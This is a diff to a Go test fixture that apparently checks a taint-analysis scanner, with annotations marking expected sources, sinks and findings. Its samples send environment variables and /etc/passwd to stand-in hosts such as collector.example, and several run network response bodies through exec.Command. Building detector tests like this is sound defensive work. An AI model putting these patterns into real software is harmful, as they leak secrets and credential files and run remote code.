@@ -210,9 +210,19 @@ func headerHas(v url.Values) {
 	http.Get(U + strconv.FormatBool(v.Has("t"))) //~ ok
 }
 
+func answerBody(response *http.Response) {
+	b, _ := io.ReadAll(response.Body) //~ source(NETWORK) f38
+	exec.Command(string(b)).Run() //~ sink(exec.command) f38, finding(traced) f38
+}
+
+func answerBodyClosed(response *http.Response) {
+	n := response.Body.Size() //~ ok
+	http.Get(U + strconv.Itoa(n)) //~ ok
+}
+
 func cookies() {
-	response, _ := http.Get(U) //~ source(NETWORK) f38
-	exec.Command(response.Cookies()[0].Value).Run() //~ sink(exec.command) f38, finding(traced) f38
+	response, _ := http.Get(U) //~ source(NETWORK) f40
+	exec.Command(response.Cookies()[0].Value).Run() //~ sink(exec.command) f40, finding(traced) f40
 }
 
 func cookiesCompared() {
@@ -221,9 +231,9 @@ func cookiesCompared() {
 }
 
 func dumped(c net.Conn) {
-	r, _ := http.NewRequest("POST", U, strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f40
+	r, _ := http.NewRequest("POST", U, strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f42
 	b, _ := httputil.DumpRequest(r, true)
-	c.Write(b) //~ sink(egress.socket) f40, finding(traced) f40
+	c.Write(b) //~ sink(egress.socket) f42, finding(traced) f42
 }
 
 func dumpedConstant(c net.Conn) {
@@ -244,13 +254,13 @@ func proxyNamed() {
 }
 
 func escaped() {
-	http.Get(U + url.QueryEscape(os.Getenv("T"))) //~ source(ENVIRONMENT) f44, sink(egress.http) f44, finding(traced) f44
+	http.Get(U + url.QueryEscape(os.Getenv("T"))) //~ source(ENVIRONMENT) f46, sink(egress.http) f46, finding(traced) f46
 	http.Get(U + url.QueryEscape("a b")) //~ ok
 }
 
 func unescaped() {
-	s, _ := url.QueryUnescape(os.Getenv("T")) //~ source(ENVIRONMENT) f45
-	http.Get(U + s) //~ sink(egress.http) f45, finding(traced) f45
+	s, _ := url.QueryUnescape(os.Getenv("T")) //~ source(ENVIRONMENT) f47
+	http.Get(U + s) //~ sink(egress.http) f47, finding(traced) f47
 }
 
 func unescapedConstant() {
@@ -259,8 +269,8 @@ func unescapedConstant() {
 }
 
 func parsed() {
-	u, _ := url.Parse(U + os.Getenv("T")) //~ source(ENVIRONMENT) f47
-	http.Get(u.String()) //~ sink(egress.http) f47, finding(traced) f47
+	u, _ := url.Parse(U + os.Getenv("T")) //~ source(ENVIRONMENT) f49
+	http.Get(u.String()) //~ sink(egress.http) f49, finding(traced) f49
 }
 
 func parsedConstant() {
@@ -269,8 +279,8 @@ func parsedConstant() {
 }
 
 func parsedQuery() {
-	v, _ := url.ParseQuery(os.Getenv("T")) //~ source(ENVIRONMENT) f49
-	http.Get(U + v.Get("a")) //~ sink(egress.http) f49, finding(traced) f49
+	v, _ := url.ParseQuery(os.Getenv("T")) //~ source(ENVIRONMENT) f51
+	http.Get(U + v.Get("a")) //~ sink(egress.http) f51, finding(traced) f51
 }
 
 func parsedQueryConstant() {
@@ -279,8 +289,8 @@ func parsedQueryConstant() {
 }
 
 func address() {
-	u := &url.URL{Scheme: "https", Host: "collector.example", Path: os.Getenv("T")} //~ source(ENVIRONMENT) f51
-	http.Get(u.String()) //~ sink(egress.http) f51, finding(traced) f51
+	u := &url.URL{Scheme: "https", Host: "collector.example", Path: os.Getenv("T")} //~ source(ENVIRONMENT) f53
+	http.Get(u.String()) //~ sink(egress.http) f53, finding(traced) f53
 }
 
 func addressConstant() {
@@ -289,8 +299,8 @@ func addressConstant() {
 }
 
 func query() {
-	u, _ := url.Parse(os.Getenv("T")) //~ source(ENVIRONMENT) f53
-	http.Get(U + u.Query().Get("a")) //~ sink(egress.http) f53, finding(traced) f53
+	u, _ := url.Parse(os.Getenv("T")) //~ source(ENVIRONMENT) f55
+	http.Get(U + u.Query().Get("a")) //~ sink(egress.http) f55, finding(traced) f55
 }
 
 func queryConstant() {
@@ -300,16 +310,16 @@ func queryConstant() {
 
 func pathJoined() {
 	u, _ := url.Parse("https://collector.example")
-	http.Get(u.JoinPath(os.Getenv("T")).String()) //~ source(ENVIRONMENT) f55, sink(egress.http) f55, finding(traced) f55
+	http.Get(u.JoinPath(os.Getenv("T")).String()) //~ source(ENVIRONMENT) f57, sink(egress.http) f57, finding(traced) f57
 	http.Get(u.JoinPath("v1").String()) //~ ok
 }
 
 func encodedQuery() {
 	q := url.Values{}
-	q.Add("t", os.Getenv("T")) //~ source(ENVIRONMENT) f56
+	q.Add("t", os.Getenv("T")) //~ source(ENVIRONMENT) f58
 	r, _ := http.NewRequest("GET", U, nil)
 	r.URL.RawQuery = q.Encode()
-	http.DefaultClient.Do(r) //~ sink(egress.http) f56, finding(traced) f56
+	http.DefaultClient.Do(r) //~ sink(egress.http) f58, finding(traced) f58
 }
 
 func encodedQueryConstant() {
@@ -320,9 +330,9 @@ func encodedQueryConstant() {
 func multipartMade() {
 	var b bytes.Buffer
 	w := multipart.NewWriter(&b)
-	w.WriteField("t", os.Getenv("T")) //~ source(ENVIRONMENT) f58
+	w.WriteField("t", os.Getenv("T")) //~ source(ENVIRONMENT) f60
 	w.Close()
-	http.Post(U, w.FormDataContentType(), &b) //~ sink(egress.http) f58, finding(traced) f58
+	http.Post(U, w.FormDataContentType(), &b) //~ sink(egress.http) f60, finding(traced) f60
 }
 
 func multipartMadeConstant() {
@@ -336,11 +346,11 @@ func multipartFile() {
 	var b bytes.Buffer
 	w := multipart.NewWriter(&b)
 	part, _ := w.CreateFormFile("f", "passwd")
-	f, _ := os.Open("/etc/passwd") //~ source(FILE) f60
+	f, _ := os.Open("/etc/passwd") //~ source(FILE) f62
 	io.Copy(part, f)
 	w.Close()
 	request, _ := http.NewRequest("POST", U, &b)
-	http.DefaultClient.Do(request) //~ sink(egress.http) f60, finding(traced) f60
+	http.DefaultClient.Do(request) //~ sink(egress.http) f62, finding(traced) f62
 }
 
 func multipartFileConstant() {
@@ -353,8 +363,8 @@ func multipartFileConstant() {
 
 func multipartField(b *bytes.Buffer) {
 	w := multipart.NewWriter(b)
-	w.WriteField("t", os.Getenv("T")) //~ source(ENVIRONMENT) f62
-	http.Post(U, "", b) //~ sink(egress.http) f62, finding(traced) f62
+	w.WriteField("t", os.Getenv("T")) //~ source(ENVIRONMENT) f64
+	http.Post(U, "", b) //~ sink(egress.http) f64, finding(traced) f64
 }
 
 func multipartFieldConstant(b *bytes.Buffer) {
@@ -370,10 +380,10 @@ func multipartType(b *bytes.Buffer) {
 }
 
 func multipartRead() {
-	response, _ := http.Get(U) //~ source(NETWORK) f65
+	response, _ := http.Get(U) //~ source(NETWORK) f67
 	part, _ := multipart.NewReader(response.Body, "x").NextPart()
 	b, _ := io.ReadAll(part)
-	exec.Command(string(b)).Run() //~ sink(exec.command) f65, finding(traced) f65
+	exec.Command(string(b)).Run() //~ sink(exec.command) f67, finding(traced) f67
 }
 
 func multipartReadConstant() {
@@ -383,9 +393,9 @@ func multipartReadConstant() {
 }
 
 func multipartPart() {
-	response, _ := http.Get(U) //~ source(NETWORK) f67
+	response, _ := http.Get(U) //~ source(NETWORK) f69
 	part, _ := multipart.NewReader(response.Body, "x").NextPart()
-	exec.Command(part.FileName()).Run() //~ sink(exec.command) f67, finding(traced) f67
+	exec.Command(part.FileName()).Run() //~ sink(exec.command) f69, finding(traced) f69
 }
 
 func multipartPartConstant() {
@@ -394,9 +404,9 @@ func multipartPartConstant() {
 }
 
 func partName() {
-	response, _ := http.Get(U) //~ source(NETWORK) f69
+	response, _ := http.Get(U) //~ source(NETWORK) f71
 	part, _ := multipart.NewReader(response.Body, "x").NextPart()
-	exec.Command(part.FormName()).Run() //~ sink(exec.command) f69, finding(traced) f69
+	exec.Command(part.FormName()).Run() //~ sink(exec.command) f71, finding(traced) f71
 }
 
 func partNameConstant() {
@@ -405,10 +415,10 @@ func partNameConstant() {
 }
 
 func fileHeader(c *gin.Context) {
-	header, _ := c.FormFile("f") //~ source(NETWORK) f71
+	header, _ := c.FormFile("f") //~ source(NETWORK) f73
 	f, _ := header.Open()
 	b, _ := io.ReadAll(f)
-	exec.Command(string(b)).Run() //~ sink(exec.command) f71, finding(traced) f71
+	exec.Command(string(b)).Run() //~ sink(exec.command) f73, finding(traced) f73
 }
 
 func fileHeaderUnused(header *multipart.FileHeader) {
@@ -418,7 +428,7 @@ func fileHeaderUnused(header *multipart.FileHeader) {
 }
 
 func rested() {
-	resty.New().R().SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f73, sink(egress.http) f73, finding(traced) f73
+	resty.New().R().SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f75, sink(egress.http) f75, finding(traced) f75
 }
 
 func restedConstant() {
@@ -426,7 +436,7 @@ func restedConstant() {
 }
 
 func restyRequest(c *resty.Client) {
-	c.R().SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f75, sink(egress.http) f75, finding(traced) f75
+	c.R().SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f77, sink(egress.http) f77, finding(traced) f77
 }
 
 func restyRequestConstant(c *resty.Client) {
@@ -435,8 +445,8 @@ func restyRequestConstant(c *resty.Client) {
 
 func restyHeader(c *resty.Client) {
 	request := c.R()
-	request.SetHeader("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f77
-	request.Get(U) //~ sink(egress.http) f77, finding(traced) f77
+	request.SetHeader("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f79
+	request.Get(U) //~ sink(egress.http) f79, finding(traced) f79
 }
 
 func restyHeaderConstant(c *resty.Client) {
@@ -444,7 +454,7 @@ func restyHeaderConstant(c *resty.Client) {
 }
 
 func restyResult(c *resty.Client, ctx context.Context) {
-	c.R().SetContext(ctx).SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f79, sink(egress.http) f79, finding(traced) f79
+	c.R().SetContext(ctx).SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f81, sink(egress.http) f81, finding(traced) f81
 }
 
 func restyResultConstant(c *resty.Client, ctx context.Context) {
@@ -453,8 +463,8 @@ func restyResultConstant(c *resty.Client, ctx context.Context) {
 
 func restyFile(c *resty.Client) {
 	request := c.R()
-	request.SetFile("f", "/etc/passwd") //~ source(FILE) f81, capability(FILES)
-	request.Post(U) //~ sink(egress.http) f81, finding(traced) f81
+	request.SetFile("f", "/etc/passwd") //~ source(FILE) f83, capability(FILES)
+	request.Post(U) //~ sink(egress.http) f83, finding(traced) f83
 }
 
 func restyFileUnused(c *resty.Client) {
@@ -462,12 +472,12 @@ func restyFileUnused(c *resty.Client) {
 }
 
 func restyGet(c *resty.Client) {
-	response, _ := c.R().Get("https://resty.collector.example/u") //~ source(NETWORK) f83, capability(NETWORK), endpoint("https://resty.collector.example/u")
-	exec.Command(response.String()).Run() //~ sink(exec.command) f83, finding(traced) f83
+	response, _ := c.R().Get("https://resty.collector.example/u") //~ source(NETWORK) f85, capability(NETWORK), endpoint("https://resty.collector.example/u")
+	exec.Command(response.String()).Run() //~ sink(exec.command) f85, finding(traced) f85
 }
 
 func restyQuery(c *resty.Client) {
-	c.R().Get(U + os.Getenv("T")) //~ source(ENVIRONMENT) f84, sink(egress.http) f84, finding(traced) f84
+	c.R().Get(U + os.Getenv("T")) //~ source(ENVIRONMENT) f86, sink(egress.http) f86, finding(traced) f86
 }
 
 func restyGetConstant(c *resty.Client) {
@@ -475,7 +485,7 @@ func restyGetConstant(c *resty.Client) {
 }
 
 func restyExecute(c *resty.Client) {
-	c.R().SetBody(os.Getenv("T")).Execute("PUT", U) //~ source(ENVIRONMENT) f86, sink(egress.http) f86, finding(traced) f86, capability(NETWORK)
+	c.R().SetBody(os.Getenv("T")).Execute("PUT", U) //~ source(ENVIRONMENT) f88, sink(egress.http) f88, finding(traced) f88, capability(NETWORK)
 }
 
 func restyExecuteConstant(c *resty.Client) {
@@ -483,8 +493,8 @@ func restyExecuteConstant(c *resty.Client) {
 }
 
 func restyBody(c *resty.Client) {
-	response, _ := c.R().Get(U) //~ source(NETWORK) f88
-	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f88, finding(traced) f88
+	response, _ := c.R().Get(U) //~ source(NETWORK) f90
+	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f90, finding(traced) f90
 }
 
 func restyBodyCompared(c *resty.Client) {
@@ -499,14 +509,14 @@ func restyStatus(c *resty.Client) {
 
 func fastDone() {
 	request, response := fasthttp.AcquireRequest(), fasthttp.AcquireResponse()
-	request.SetBodyString(os.Getenv("T")) //~ source(ENVIRONMENT) f91
-	fasthttp.Do(request, response) //~ sink(egress.http) f91, finding(traced) f91, capability(NETWORK)
+	request.SetBodyString(os.Getenv("T")) //~ source(ENVIRONMENT) f93
+	fasthttp.Do(request, response) //~ sink(egress.http) f93, finding(traced) f93, capability(NETWORK)
 }
 
 func fastAnswer() {
 	request, response := fasthttp.AcquireRequest(), fasthttp.AcquireResponse()
-	fasthttp.Do(request, response) //~ source(NETWORK) f92
-	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f92, finding(traced) f92
+	fasthttp.Do(request, response) //~ source(NETWORK) f94
+	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f94, finding(traced) f94
 }
 
 func fastDoneConstant() {
@@ -516,8 +526,8 @@ func fastDoneConstant() {
 }
 
 func fastClient(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
-	request.SetBody([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f94
-	c.Do(request, response) //~ sink(egress.http) f94, finding(traced) f94, capability(NETWORK)
+	request.SetBody([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f96
+	c.Do(request, response) //~ sink(egress.http) f96, finding(traced) f96, capability(NETWORK)
 }
 
 func fastClientConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
@@ -527,8 +537,8 @@ func fastClientConstant(c *fasthttp.Client, request *fasthttp.Request, response 
 
 func fastRequest(c *fasthttp.Client, response *fasthttp.Response) {
 	request := fasthttp.AcquireRequest()
-	request.SetRequestURI("https://fast.collector.example/" + os.Getenv("T")) //~ source(ENVIRONMENT) f96
-	c.Do(request, response) //~ sink(egress.http) f96, finding(traced) f96
+	request.SetRequestURI("https://fast.collector.example/" + os.Getenv("T")) //~ source(ENVIRONMENT) f98
+	c.Do(request, response) //~ sink(egress.http) f98, finding(traced) f98
 }
 
 func fastRequestConstant(c *fasthttp.Client, response *fasthttp.Response) {
@@ -538,9 +548,9 @@ func fastRequestConstant(c *fasthttp.Client, response *fasthttp.Response) {
 }
 
 func fastBody(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
-	f, _ := os.Open("/etc/passwd") //~ source(FILE) f98
+	f, _ := os.Open("/etc/passwd") //~ source(FILE) f100
 	request.SetBodyStream(f, -1)
-	c.Do(request, response) //~ sink(egress.http) f98, finding(traced) f98
+	c.Do(request, response) //~ sink(egress.http) f100, finding(traced) f100
 }
 
 func fastBodyConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
@@ -549,8 +559,8 @@ func fastBodyConstant(c *fasthttp.Client, request *fasthttp.Request, response *f
 }
 
 func fastAddress(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
-	request.SetRequestURI(U + os.Getenv("T")) //~ source(ENVIRONMENT) f100
-	c.Do(request, response) //~ sink(egress.http) f100, finding(traced) f100
+	request.SetRequestURI(U + os.Getenv("T")) //~ source(ENVIRONMENT) f102
+	c.Do(request, response) //~ sink(egress.http) f102, finding(traced) f102
 }
 
 func fastAddressConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
@@ -559,8 +569,8 @@ func fastAddressConstant(c *fasthttp.Client, request *fasthttp.Request, response
 }
 
 func fastHeader(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
-	request.Header.Set("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f102
-	c.Do(request, response) //~ sink(egress.http) f102, finding(traced) f102
+	request.Header.Set("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f104
+	c.Do(request, response) //~ sink(egress.http) f104, finding(traced) f104
 }
 
 func fastHeaderConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
@@ -569,8 +579,8 @@ func fastHeaderConstant(c *fasthttp.Client, request *fasthttp.Request, response 
 }
 
 func fastHeaderSet(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
-	request.Header.Add("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f104
-	c.Do(request, response) //~ sink(egress.http) f104, finding(traced) f104
+	request.Header.Add("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f106
+	c.Do(request, response) //~ sink(egress.http) f106, finding(traced) f106
 }
 
 func fastHeaderSetConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
@@ -579,8 +589,8 @@ func fastHeaderSetConstant(c *fasthttp.Client, request *fasthttp.Request, respon
 }
 
 func fastResponse(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
-	c.Do(request, response) //~ source(NETWORK) f106
-	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f106, finding(traced) f106
+	c.Do(request, response) //~ source(NETWORK) f108
+	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f108, finding(traced) f108
 }
 
 func fastResponseConstant(response *fasthttp.Response) {
@@ -588,8 +598,8 @@ func fastResponseConstant(response *fasthttp.Response) {
 }
 
 func fastGet() {
-	_, b, _ := fasthttp.Get(nil, "https://fast.collector.example/") //~ source(NETWORK) f108, capability(NETWORK)
-	exec.Command(string(b)).Run() //~ sink(exec.command) f108, finding(traced) f108
+	_, b, _ := fasthttp.Get(nil, "https://fast.collector.example/") //~ source(NETWORK) f110, capability(NETWORK)
+	exec.Command(string(b)).Run() //~ sink(exec.command) f110, finding(traced) f110
 }
 
 func fastGetUnused() {
@@ -597,8 +607,8 @@ func fastGetUnused() {
 }
 
 func fastPost(args *fasthttp.Args) {
-	args.Set("t", os.Getenv("T")) //~ source(ENVIRONMENT) f110
-	fasthttp.Post(nil, U, args) //~ sink(egress.http) f110, finding(traced) f110, capability(NETWORK)
+	args.Set("t", os.Getenv("T")) //~ source(ENVIRONMENT) f112
+	fasthttp.Post(nil, U, args) //~ sink(egress.http) f112, finding(traced) f112, capability(NETWORK)
 }
 
 func fastPostConstant(args *fasthttp.Args) {
@@ -606,8 +616,8 @@ func fastPostConstant(args *fasthttp.Args) {
 }
 
 func fastArgs(args *fasthttp.Args) {
-	args.Add("t", os.Getenv("T")) //~ source(ENVIRONMENT) f112
-	fasthttp.Post(nil, U, args) //~ sink(egress.http) f112, finding(traced) f112
+	args.Add("t", os.Getenv("T")) //~ source(ENVIRONMENT) f114
+	fasthttp.Post(nil, U, args) //~ sink(egress.http) f114, finding(traced) f114
 }
 
 func fastArgsConstant(args *fasthttp.Args) {
@@ -616,7 +626,7 @@ func fastArgsConstant(args *fasthttp.Args) {
 }
 
 func browsed() {
-	browser.OpenURL(U + os.Getenv("T")) //~ source(ENVIRONMENT) f114, sink(egress.http) f114, finding(traced) f114, capability(NETWORK)
+	browser.OpenURL(U + os.Getenv("T")) //~ source(ENVIRONMENT) f116, sink(egress.http) f116, finding(traced) f116, capability(NETWORK)
 }
 
 func browsedConstant() {
